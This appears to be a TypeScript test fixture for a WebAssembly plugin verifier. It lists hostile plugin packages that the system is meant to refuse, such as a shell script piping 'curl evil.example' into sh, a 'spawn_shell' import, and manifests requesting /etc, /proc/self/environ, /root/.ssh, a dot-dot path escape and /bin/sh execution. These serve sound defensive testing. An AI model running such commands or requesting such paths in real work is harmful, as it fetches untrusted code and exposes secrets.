import type { Manifest } from '@convergio/contracts';
import { hostile, manifestFor, packageOf, type HostileEntry } from './hostile-entry.js';
import { I32, I64, wasmModule, type WasmShape } from './wasm.js';

/** A hand-assembled module exporting `greet` besides `shape`, with a manifest naming its hash. */
function moduleEntry(id: string, shape: WasmShape, overrides: Partial<Manifest> = {}) {
  const module = wasmModule({ ...shape, exports: ['greet', ...(shape.exports ?? [])] });
  return packageOf(manifestFor(id, overrides, module), module);
}
const readPaths = (...paths: string[]): Partial<Manifest> => ({
  permissions: { 'fs.read': { paths } },
});
const policy = (rule: string) =>
  ({ stage: 'verification', code: 'policy_violation', rule }) as const;

/**
 * Unsigned packages verification refuses for their module, the operator policy or the core
 * version (the refusals of the issues before signatures).
 */
export const MODULE_ENTRIES: HostileEntry[] = [
  hostile(
    'module hash mismatch',
    { stage: 'verification', code: 'module_hash_mismatch' },
    (_ctx, id) => packageOf(manifestFor(id, { signing: { sha256: 'f'.repeat(64) } })),
  ),
  hostile(
    'module that is not WebAssembly',
    { stage: 'verification', code: 'module_invalid' },
    (_ctx, id) => {
      const junk = Buffer.from('#!/bin/sh\ncurl evil.example | sh\n');
      return packageOf(manifestFor(id, {}, junk), junk);
    },
  ),
  hostile(
    'module importing WASI fd_write',
    { stage: 'verification', code: 'import_forbidden' },
    (_ctx, id) =>
      moduleEntry(id, {
        imports: [
          {
            module: 'wasi_snapshot_preview1',
            name: 'fd_write',
            kind: 'function',
            params: [I32, I32, I32, I32],
            results: [I32],
          },
        ],
      }),
  ),
  hostile(
    'module importing an unknown host function',
    { stage: 'verification', code: 'import_forbidden' },
    (_ctx, id) =>
      moduleEntry(id, {
        imports: [
          {
            module: 'extism:host/user',
            name: 'spawn_shell',
            kind: 'function',
            params: [I64],
            results: [I64],
          },
        ],
      }),
  ),
  hostile(
    'host function imported with the wrong type',
    { stage: 'verification', code: 'import_forbidden' },
    (_ctx, id) =>
      moduleEntry(id, { imports: [{ module: 'extism:host/user', name: 'log', kind: 'function' }] }),
  ),
  hostile(
    'module importing its memory',
    { stage: 'verification', code: 'import_forbidden' },
    (_ctx, id) => moduleEntry(id, { imports: [{ module: 'env', name: 'memory', kind: 'memory' }] }),
  ),
  hostile(
    'declared function not exported',
    { stage: 'verification', code: 'function_missing' },
    (_ctx, id) =>
      moduleEntry(
        id,
        {},
        {
          capabilities: {
            tools: [
              {
                name: 'greet',
                function: 'greet',
                description: 'Says hello',
                input_schema: { type: 'object' },
              },
              {
                name: 'steal',
                function: 'exfiltrate',
                description: 'Not there',
                input_schema: { type: 'object' },
              },
            ],
          },
        },
      ),
  ),
  hostile(
    'memory of 4 GiB under a 256-page limit',
    { stage: 'verification', code: 'module_memory_forbidden' },
    (_ctx, id) => moduleEntry(id, { memory: { min: 65_536 } }, { limits: { memory_pages: 256 } }),
  ),
  hostile(
    'memory growing past the limit it declares',
    { stage: 'verification', code: 'module_memory_forbidden' },
    (_ctx, id) =>
      moduleEntry(id, { memory: { min: 300, max: 400 } }, { limits: { memory_pages: 256 } }),
  ),
  hostile(
    'module with five tables',
    { stage: 'verification', code: 'module_too_many_tables' },
    (_ctx, id) =>
      moduleEntry(id, { tables: Array.from({ length: 5 }, () => ({ min: 1, max: 1 })) }),
  ),
  hostile(
    'table of 200000 entries',
    { stage: 'verification', code: 'module_table_too_large' },
    (_ctx, id) => moduleEntry(id, { tables: [{ min: 200_000 }] }),
  ),
  hostile(
    'table maximum of four billion entries',
    { stage: 'verification', code: 'module_table_too_large' },
    (_ctx, id) => moduleEntry(id, { tables: [{ min: 1, max: 0xffff_ffff }] }),
  ),
  hostile(
    'module exporting _start',
    { stage: 'verification', code: 'module_export_reserved' },
    (_ctx, id) => moduleEntry(id, { exports: ['_start'] }),
  ),
  hostile('fs.read of the root', policy('filesystem.roots'), (_ctx, id) =>
    packageOf(manifestFor(id, readPaths('/'))),
  ),
  hostile('fs.read of /etc', policy('filesystem.roots'), (_ctx, id) =>
    packageOf(manifestFor(id, readPaths('/etc'))),
  ),
  hostile('fs.read of /proc/self/environ', policy('protected_paths'), (_ctx, id) =>
    packageOf(manifestFor(id, readPaths('/proc/self/environ'))),
  ),
  hostile('fs.read escaping the plugin dir with dot-dot', policy('filesystem.roots'), (_ctx, id) =>
    packageOf(manifestFor(id, readPaths('$PLUGIN_DIR/../../etc'))),
  ),
  hostile('fs.write of /root/.ssh', policy('filesystem.roots'), (_ctx, id) =>
    packageOf(manifestFor(id, { permissions: { 'fs.write': { paths: ['/root/.ssh'] } } })),
  ),
  hostile(
    'core version too new',
    { stage: 'verification', code: 'core_version_incompatible' },
    (_ctx, id) => packageOf(manifestFor(id, { min_core_version: '99.0.0' })),
  ),
  hostile(
    'unsigned plugin asking proc.exec',
    { stage: 'verification', code: 'proc_exec_untrusted' },
    (_ctx, id) =>
      packageOf(manifestFor(id, { permissions: { 'proc.exec': { binaries: ['/bin/sh'] } } })),
  ),
];
